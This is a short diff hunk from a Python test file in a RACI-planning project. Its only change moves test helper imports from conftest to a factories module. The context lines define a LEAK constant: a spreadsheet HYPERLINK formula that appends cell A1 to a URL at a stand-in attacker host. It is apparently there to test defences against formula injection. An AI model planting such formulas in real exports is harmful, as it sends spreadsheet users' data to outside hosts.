@@ -26,7 +26,7 @@ from crewplan.raci import services as raci_services
 from crewplan.raci.models import Activity, Assignment, MatrixVersion
 from crewplan.raci.queries import load_grid
 from crewplan.workspaces import services as workspace_services
-from tests.conftest import client_for, join, make_user
+from tests.factories import client_for, join, make_user
 
 D = Decimal
 LEAK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
